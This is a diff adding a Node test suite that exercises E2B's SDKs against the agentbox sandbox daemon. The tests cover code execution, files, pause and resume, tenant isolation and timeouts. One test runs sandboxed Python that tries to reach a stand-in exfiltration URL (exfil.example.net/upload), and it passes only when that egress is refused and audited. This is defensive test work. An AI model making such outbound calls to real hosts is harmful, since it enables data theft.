@@ -1,0 +1,161 @@
+// The E2B test program: E2B's official JavaScript SDKs (e2b, @e2b/code-interpreter, pinned in
+// scripts/e2b-tools), unmodified, against agentbox. TestE2BSDK (internal/daemon/e2b_sdk_test.go)
+// runs it with Node 22 under `node --test`, with E2B_DOMAIN and E2B_API_KEY pointed at a daemon it
+// started, a resolver (dnsmasq) that answers *.E2B_DOMAIN with the daemon's address, and a test CA
+// the SDK trusts (NODE_EXTRA_CA_CERTS). Nothing here knows it is not talking to E2B, except the
+// refused egress request's audit record, which is read from agentbox's own API.
+'use strict'
+const { test } = require('node:test')
+const assert = require('node:assert/strict')
+const { Sandbox } = require('@e2b/code-interpreter')
+const Base = require('e2b')
+
+const otherKey = process.env.E2B_OTHER_TENANT_KEY // a key of another tenant
+const agentbox = process.env.AGENTBOX_URL // agentbox's own API, for the audit log
+let sbx
+
+test('create a code interpreter sandbox (timeout, metadata, envs)', async () => {
+  sbx = await Sandbox.create({ timeoutMs: 600_000, metadata: { suite: 'e2b-sdk', run: process.pid.toString() }, envs: { GREETING: 'hello from envs' } })
+  assert.match(sbx.sandboxId, /^sb[a-z0-9-]+$/)
+  const info = await sbx.getInfo()
+  assert.equal(info.sandboxId, sbx.sandboxId)
+  assert.equal(info.templateId, 'code-interpreter-v1')
+  assert.equal(info.state, 'running')
+  assert.equal(info.metadata.suite, 'e2b-sdk')
+  assert.ok(info.endAt.getTime() - info.startedAt.getTime() >= 590_000)
+})
+
+test('list finds it by metadata, page by page', async () => {
+  const found = []
+  const pages = Sandbox.list({ query: { metadata: { suite: 'e2b-sdk', run: process.pid.toString() }, state: ['running', 'paused'] }, limit: 1 })
+  while (pages.hasNext) {
+    found.push(...(await pages.nextItems()))
+  }
+  assert.deepEqual(found.map((s) => s.sandboxId), [sbx.sandboxId])
+  const none = await Sandbox.list({ query: { metadata: { suite: 'no-such-suite' } } }).nextItems()
+  assert.equal(none.length, 0)
+})
+
+test('run code: a pandas DataFrame and a matplotlib chart (PNG as a result)', async () => {
+  const ex = await sbx.runCode(`
+import pandas as pd
+import matplotlib.pyplot as plt
+df = pd.DataFrame({"x": [1, 2, 3], "y": [2, 4, 9]})
+print(df["y"].sum())
+plt.plot(df["x"], df["y"])
+plt.show()
+df
+`)
+  assert.equal(ex.error, undefined, ex.error && `${ex.error.name}: ${ex.error.value}\n${ex.error.traceback}`)
+  assert.equal(ex.logs.stdout.join('').trim(), '15')
+  const png = ex.results.find((r) => r.png)
+  assert.ok(png, `no PNG among the results: ${JSON.stringify(ex.results.map((r) => r.formats()))}`)
+  assert.equal(Buffer.from(png.png, 'base64').subarray(1, 4).toString(), 'PNG')
+  const table = ex.results.find((r) => r.isMainResult)
+  assert.ok(table && (table.html || table.text), 'the DataFrame is the main result')
+  assert.match(table.html || table.text, /9/)
+})
+
+test('an exception comes back with name, value and traceback', async () => {
+  const ex = await sbx.runCode('1/0')
+  assert.equal(ex.error.name, 'ZeroDivisionError')
+  assert.match(ex.error.value, /division by zero/)
+  assert.match(ex.error.traceback, /ZeroDivisionError/)
+})
+
+test('stdout of a loop is streamed as it is printed', async () => {
+  const chunks = []
+  const start = Date.now()
+  const ex = await sbx.runCode('import time\nfor i in range(4):\n    print(i, flush=True)\n    time.sleep(0.4)', {
+    onStdout: (m) => chunks.push({ line: m.line, at: Date.now() - start }),
+  })
+  assert.equal(chunks.map((c) => c.line).join('').replace(/\s+/g, ''), '0123')
+  assert.ok(chunks.length >= 2, `one chunk only: ${JSON.stringify(chunks)}`)
+  assert.ok(chunks[0].at < chunks[chunks.length - 1].at - 500, `not streamed: ${JSON.stringify(chunks)}`)
+  assert.equal(ex.logs.stdout.join('').replace(/\s+/g, ''), '0123')
+})
+
+test('run a command (with the sandbox envs)', async () => {
+  const r = await sbx.commands.run('echo "$GREETING"; echo out; echo err >&2')
+  assert.equal(r.exitCode, 0)
+  assert.equal(r.stdout, 'hello from envs\nout\n')
+  assert.equal(r.stderr, 'err\n')
+  await assert.rejects(sbx.commands.run('exit 3'), (e) => e.exitCode === 3)
+})
+
+test('write and read files', async () => {
+  await sbx.files.write('/tmp/e2b-test/hello.txt', 'hello, file')
+  assert.equal(await sbx.files.read('/tmp/e2b-test/hello.txt'), 'hello, file')
+  const entries = await sbx.files.list('/tmp/e2b-test')
+  assert.deepEqual(entries.map((e) => e.name), ['hello.txt'])
+  const ex = await sbx.runCode('print(open("/tmp/e2b-test/hello.txt").read())')
+  assert.equal(ex.logs.stdout.join('').trim(), 'hello, file')
+})
+
+test('pause and resume (connect) keep the state', async () => {
+  await sbx.runCode('kept = 41 + 1')
+  assert.equal(await sbx.pause(), true)
+  assert.equal((await sbx.getInfo()).state, 'paused')
+  assert.equal(await sbx.pause(), false) // already paused: E2B's 409
+  const again = await Sandbox.connect(sbx.sandboxId)
+  assert.equal((await again.getInfo()).state, 'running')
+  const ex = await again.runCode('print(kept)')
+  assert.equal(ex.logs.stdout.join('').trim(), '42')
+  sbx = again
+})
+
+test('a refused egress request, and its audit record', async () => {
+  const ex = await sbx.runCode(`
+import urllib.request
+try:
+    urllib.request.urlopen("https://exfil.example.net/upload", timeout=20)
+    print("reached")
+except Exception as e:
+    print("refused:", e)
+`)
+  const out = ex.logs.stdout.join('')
+  assert.match(out, /refused/, out)
+  const session = 'sb_' + sbx.sandboxId.slice(2)
+  const res = await fetch(`${agentbox}/v1/audit?session=${session}&kind=egress&decision=deny`, {
+    headers: { Authorization: `Bearer ${process.env.E2B_API_KEY}` },
+  })
+  assert.equal(res.status, 200)
+  const body = await res.json()
+  const records = body.records ?? body
+  assert.ok(records.some((r) => JSON.stringify(r).includes('exfil.example.net')), JSON.stringify(body).slice(0, 2000))
+})
+
+test('calls agentbox does not serve are a typed not_implemented naming the call', async () => {
+  await assert.rejects(sbx.getMetrics(), (e) => /not implemented/.test(e.message) && /getMetrics/.test(e.message))
+  await assert.rejects(sbx.createSnapshot(), (e) => /not implemented/.test(e.message) && /createSnapshot/.test(e.message))
+})
+
+test('another tenant does not find the sandbox', async () => {
+  await assert.rejects(Sandbox.connect(sbx.sandboxId, { apiKey: otherKey }), (e) => e.name === 'SandboxNotFoundError')
+  await assert.rejects(Sandbox.getInfo(sbx.sandboxId, { apiKey: otherKey }), (e) => e.name === 'SandboxNotFoundError')
+  assert.equal(await Sandbox.kill(sbx.sandboxId, { apiKey: otherKey }), false)
+  const theirs = await Sandbox.list({ apiKey: otherKey }).nextItems()
+  assert.ok(!theirs.some((s) => s.sandboxId === sbx.sandboxId))
+})
+
+test('setTimeout, then kill', async () => {
+  await sbx.setTimeout(120_000)
+  const info = await sbx.getInfo()
+  assert.ok(info.endAt.getTime() - Date.now() <= 121_000)
+  assert.equal(await sbx.isRunning(), true)
+  assert.equal(await sbx.kill(), true)
+  assert.equal(await sbx.isRunning(), false)
+  assert.equal(await Sandbox.kill(sbx.sandboxId), false)
+})
+
+test('the e2b SDK: the base template, a command, a file', async () => {
+  const b = await Base.Sandbox.create({ timeoutMs: 120_000 })
+  try {
+    const r = await b.commands.run('python3 -c "print(6*7)"')
+    assert.equal(r.stdout.trim(), '42')
+    await b.files.write('/tmp/base.txt', 'base')
+    assert.equal(await b.files.read('/tmp/base.txt'), 'base')
+  } finally {
+    await b.kill()
+  }
+})
